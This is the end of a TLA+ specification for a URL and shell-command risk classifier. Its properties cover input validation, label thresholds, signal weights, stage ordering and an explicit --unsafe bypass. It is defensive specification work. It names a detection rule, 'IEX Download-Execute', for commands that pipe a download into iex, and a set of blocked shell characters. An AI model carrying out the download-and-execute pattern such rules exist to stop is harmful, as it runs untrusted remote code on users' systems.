\* C11: in handle_url and handle_cmd an empty input or a validate_url /
\* validate_cmd that returns false ends the request with one error line and
\* exit status 1; no rule set, trust policy, augmenter or model is called and
\* no label is emitted.
C11_ErrorsAreTerminal ==
    LET Failed(msg) ==
          /\ pc = "exit" /\ exit_code = 1
          /\ stdout = <<[kind |-> IF argv.subcmd = "classify-url" THEN "URL" ELSE "CMD",
                         label |-> msg, extra |-> <<>>]>>
          /\ log = stdout
          /\ CalledFns \cap StageFns = {}
          /\ label = "" /\ predicted = ""
          /\ safe_hits = <<>> /\ rule_hits = <<>>
          /\ _url_model = "None" /\ _cmd_model = "None"
    IN  /\ (argv.subcmd = "classify-url" /\ pc \notin {"main", "classify-url"}) =>
             /\ argv.args[1] = <<>> => Failed("ERROR: missing URL")
             /\ (argv.args[1] # <<>> /\ ~validate_url(argv.args[1])) =>
                  Failed("ERROR: invalid syntax")
        /\ (argv.subcmd = "classify-cmd" /\ pc \notin {"main", "classify-cmd"}
              /\ exit_code # 2) =>
             /\ sanitize_text(RawInput) = <<>> => Failed("ERROR: no command provided")
             /\ ("validate_cmd" \in CalledFns /\ ~validate_cmd(cmd)) =>
                  Failed("ERROR: unsafe characters")

\* a command with a pipe has been refused by validate_cmd
C11_Witness ==
    /\ argv.subcmd = "classify-cmd"
    /\ pc = "exit" /\ exit_code = 1
    /\ "validate_cmd" \in CalledFns
    /\ \E i \in 1..Len(cmd) : cmd[i] = "|"

\* C12: a request that asks a loader for a model whose artifact is missing
\* ends in failure: the loader raises, main() reports the error and exits
\* with status 1, and no label is computed or printed for the request.
C12_MissingModelIsFatal ==
    LET needed == \/ "load_url_model" \in CalledFns /\ _url_model = "None"
                  \/ "load_cmd_model" \in CalledFns /\ _cmd_model = "None"
    IN  needed =>
          /\ pc \in {"raised", "exit"}
          /\ label = "" /\ predicted = ""
          /\ CalledFns \cap {"predict_url", "predict_cmd"} = {}
          /\ \A i \in DOMAIN stdout : stdout[i].kind \notin {"URL", "CMD"}
          /\ \A i \in DOMAIN log : log[i].kind \notin {"URL", "CMD"}
          /\ pc = "exit" =>
               /\ exit_code = 1
               /\ LastLine = [kind |-> "FATAL", label |-> "Unexpected error", extra |-> <<>>]
               /\ log[Len(log)].kind = "FATAL"

\* a command that no rule decides has failed on the missing command model
C12_Witness ==
    /\ argv.subcmd = "classify-cmd"
    /\ "load_cmd_model" \in CalledFns
    /\ _cmd_model = "None"
    /\ pc = "exit" /\ exit_code = 1

\* C13: validate_url is true only of a text whose sanitized form is at most
\* MAX_URL_LENGTH long, has the scheme http, https or ftp, has a non-empty
\* host and a last host label outside BLOCKED_TLDS; so the host that
\* classify_url hands to the trust policy is never empty.
C13_ValidUrlHasHost ==
    (argv.subcmd = "classify-url" /\ pc \notin {"main", "classify-url"}
       /\ validate_url(argv.args[1])) =>
      LET url == sanitize_text(argv.args[1])
          host == urlsplit_hostname(url)
      IN  /\ Len(url) <= MAX_URL_LENGTH
          /\ urlsplit_scheme(url) \in {Chars("http"), Chars("https"), Chars("ftp")}
          /\ host # <<>>
          /\ SubSeq(host, rfind(host, ".") + 1, Len(host)) \notin BLOCKED_TLDS
          /\ \A i \in DOMAIN trace :
               trace[i].fn = "_is_trusted_host" => trace[i].arg # <<>>

\* C14: validate_cmd is skipped only when --unsafe is on the command line,
\* and a request that skips it has a record in the log by the time the rule
\* stage starts.
C14_BypassExplicitAndLogged ==
    (argv.subcmd = "classify-cmd"
       /\ (pc = "benign_rules" \/ "apply_benign_rules" \in CalledFns)
       /\ "validate_cmd" \notin CalledFns) =>
      /\ allow_unsafe(argv)
      /\ pc = "benign_rules" => log # <<>>

\* C15: assign_label(s) is malicious iff s >= 0.70, suspicious iff
\* 0.30 <= s < 0.70 and benign iff s < 0.30: every score gets exactly one
\* label, 0.70 is malicious and 0.30 is suspicious.
C15_TwoThresholdLabel ==
    label_out # <<>> =>
      LET s == score_in
          l == label_out[1]
      IN  /\ l \in {"malicious", "suspicious", "benign"}
          /\ l = "malicious" <=> s >= 700
          /\ l = "suspicious" <=> (300 <= s /\ s < 700)
          /\ l = "benign" <=> s < 300
          /\ s = 700 => l = "malicious"
          /\ s = 300 => l = "suspicious"
          /\ s = 299 => l = "benign"

\* the score 0.70 has been labelled
C15_Witness == score_in = 700 /\ label_out = <<"malicious">>

\* C16: the seven weights sum to 1.0; the score of every command is the sum
\* of signal value times weight and lies in [0,1]; raising one signal of the
\* row, the other six held, never lowers the score.
C16_ScoreBoundedMonotone ==
    /\ weights["Lolbin (0.05)"] + weights["Content (0.4)"] + weights["Frequency (0.2)"]
         + weights["Source (0.1)"] + weights["Network (0.1)"]
         + weights["Behavioural (0.1)"] + weights["History (0.05)"] = 1000
    /\ \A c \in DOMAIN weights : weights[c] > 0
    /\ row_score # <<>> =>
         LET r == row[1]
             s == row_score[1]
         IN  /\ \A c \in DOMAIN weights : r[c] \in {0, 500, 1000}
             /\ 1000 * s = r["Lolbin (0.05)"] * 50 + r["Content (0.4)"] * 400
                             + r["Frequency (0.2)"] * 200 + r["Source (0.1)"] * 100
                             + r["Network (0.1)"] * 100 + r["Behavioural (0.1)"] * 100
                             + r["History (0.05)"] * 50
             /\ 0 <= s /\ s <= 1000
             /\ \A c \in DOMAIN weights : \A v \in {0, 500, 1000} :
                  v >= r[c] => Score([r EXCEPT ![c] = v]) >= s

\* a row with a file operation and a scheduler word has been scored
C16_Witness ==
    /\ row_score # <<>>
    /\ row[1]["Content (0.4)"] = 500
    /\ row[1]["Frequency (0.2)"] = 1000
    /\ row_score[1] = 500

\* C17: in a classify-cmd or classify-url request each of the stages
\* sanitize, validate, benign rules, malicious rules, augmentation and model
\* prediction runs at most once, in that order, and the request ends in one
\* terminal state.
C17_NoStageRevisited ==
    argv.subcmd \in {"classify-cmd", "classify-url"} =>
      LET Stage(fn) ==
            CASE fn = "sanitize_text" -> 1
              [] fn \in {"validate_url", "validate_cmd"} -> 2
              [] fn = "apply_benign_rules" -> 3
              [] fn = "apply_rules" -> 4
              [] fn = "augment" -> 5
              [] fn \in {"predict_url", "predict_cmd"} -> 6
              [] OTHER -> 0
          Runs(k) == {i \in DOMAIN trace : Stage(trace[i].fn) = k}
      IN  /\ \A k \in 1..6 : Cardinality(Runs(k)) <= 1
          /\ \A i, j \in DOMAIN trace :
               (i < j /\ Stage(trace[i].fn) > 1 /\ Stage(trace[j].fn) > 1) =>
                 Stage(trace[i].fn) < Stage(trace[j].fn)
          /\ \A j \in DOMAIN trace :
               Stage(trace[j].fn) > 2 => \E i \in 1..(j - 1) : Stage(trace[i].fn) = 1
          /\ pc = "exit" => exit_code \in {0, 1, 2}

\* C18: no signal determines another: for any two distinct signals among
\* lolbin, content, frequency, source, network and behavioural and any pair
\* of their values, some prompt yields that pair (content 1.0 with network 0,
\* source 1 with network 0, frequency 1 with behavioural 0 among them).
C18_SignalsIndependent ==
    LET Six == DOMAIN weights \ {"History (0.05)"}
        Values(c) == IF c = "Content (0.4)" THEN {0, 500, 1000} ELSE {0, 1000}
        Attained(a, va, b, vb) ==
          \E t \in RiskTexts : Signals(t)[a] = va /\ Signals(t)[b] = vb
    IN  /\ \A a, b \in Six :
             a # b => \A va \in Values(a), vb \in Values(b) : Attained(a, va, b, vb)
        /\ row # <<>> =>
             /\ row[1]["Content (0.4)"] = 1000 => Attained("Content (0.4)", 1000,
                                                           "Network (0.1)", 0)
             /\ row[1]["Source (0.1)"] = 1000 => Attained("Source (0.1)", 1000,
                                                          "Network (0.1)", 0)
             /\ row[1]["Frequency (0.2)"] = 1000 => Attained("Frequency (0.2)", 1000,
                                                             "Behavioural (0.1)", 0)

\* C19: without --unsafe no text with a character of BAD_SHELL_CHARS reaches
\* the rule engine, so a classify-cmd request never ends with a hit of
\* IEX Download-Execute: a download piped to iex ends in the validation
\* error, and the rule hits only in requests that skip validate_cmd.
C19_NoMetacharPastValidation ==
    argv.subcmd = "classify-cmd" =>
      LET Has(hits, name) == \E i \in DOMAIN hits : hits[i] = name
          Meta(text) == \E k \in 1..Len(text) : text[k] \in BAD_SHELL_CHARS
      IN  /\ ~allow_unsafe(argv) =>
               /\ \A i \in DOMAIN trace :
                    trace[i].fn \in {"apply_benign_rules", "apply_rules"} =>
                      ~Meta(trace[i].arg)
               /\ ~Has(rule_hits, "IEX Download-Execute")
               /\ (pc = "exit" /\ exit_code # 2
                     /\ Rx_IexDownloadExecute(lower(cmd)) # {}) =>
                    /\ exit_code = 1
                    /\ LastLine.label = "ERROR: unsafe characters"
                    /\ label = ""
          /\ Has(rule_hits, "IEX Download-Execute") =>
               allow_unsafe(argv) /\ "validate_cmd" \notin CalledFns

====
